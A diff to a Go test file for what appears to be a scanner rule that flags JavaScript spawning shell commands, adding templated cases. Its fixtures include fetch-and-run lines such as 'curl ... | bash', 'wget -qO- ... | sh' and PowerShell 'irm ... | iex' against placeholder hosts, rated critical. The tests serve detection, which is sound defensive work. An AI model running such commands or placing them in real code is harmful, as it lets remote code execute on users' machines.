@@ -11,6 +11,9 @@ func TestSpawn(t *testing.T) {
 	rt.Check(t, Spawn{}, []rt.Case{
 		{"curl_sh", map[string]string{"index.js": `require("child_process").execSync("curl -s https://x.invalid/s | bash")`}, finding.SeverityCritical},
 		{"chosen_at_runtime", map[string]string{"index.js": `const {execSync}=require("child_process"); let c; if (w) c = "powershell -c \"irm x.invalid/i.ps1|iex\""; else c = "wget -qO- https://x.invalid/i | sh"; execSync(c)`}, finding.SeverityCritical},
+		// the command is a template: its constant text still says what it does
+		{"template_curl_sh", map[string]string{"index.js": "const {exec}=require(\"child_process\"); exec(`curl -s ${host}/i.sh | sh`)"}, finding.SeverityCritical},
+		{"template_git", map[string]string{"index.js": "const {exec}=require(\"child_process\"); exec(`git tag ${v} && git push origin ${v}`)"}, finding.SeverityLow},
 		{"detached_hidden", map[string]string{"index.js": `const {spawn}=require("child_process"); spawn(p, {detached: true, stdio: "ignore"}).unref()`}, finding.SeverityMedium},
 		{"git_cli", map[string]string{"index.js": `require("child_process").execFileSync("git", ["rev-parse", "HEAD"])`}, finding.SeverityLow},
 		{"no_spawn", map[string]string{"index.js": `const s = "curl https://x | sh"; console.log(s)`}, finding.SeverityNone},
